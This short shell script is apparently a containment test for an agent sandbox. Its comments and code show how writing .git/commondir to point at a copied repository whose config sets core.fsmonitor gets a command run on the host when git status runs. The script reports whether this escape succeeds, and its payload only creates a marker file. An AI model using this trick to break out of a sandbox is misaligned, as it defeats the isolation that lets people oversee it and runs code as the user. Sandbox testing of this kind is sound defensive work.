#!/bin/sh
# Attack: the read-only carve-outs cover .git/hooks and .git/config, but git takes its config (and
# hooks) from the common directory that .git/commondir names, when that file exists. Write a copy of
# the repository with core.fsmonitor set (a command git runs at `git status`) next to the project
# and point .git/commondir at it. The runner then runs git on the host as the human.
cd /workspace || { echo "BROKEN no /workspace"; exit 0; }
[ -f .git/HEAD ] || { echo "BROKEN the project is not a git repository"; exit 0; }
evil=.rcc-escape-commondir
rm -rf "$evil"
mkdir "$evil" && cp -a .git/. "$evil/" 2>/dev/null && chmod -R u+w "$evil" ||
        { echo "BROKEN cannot copy the repository"; exit 0; }
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "touch rcc-escape-fsmonitor-ran; false"\n\thooksPath = /nonexistent\n' >"$evil/config"
if err=$( (printf '../%s\n' "$evil" >.git/commondir) 2>&1); then
        echo "ESCAPED wrote .git/commondir -> ../$evil, whose config sets core.fsmonitor (run by git status)"
else
        echo "CONTAINED .git/commondir not writable: $err"
fi
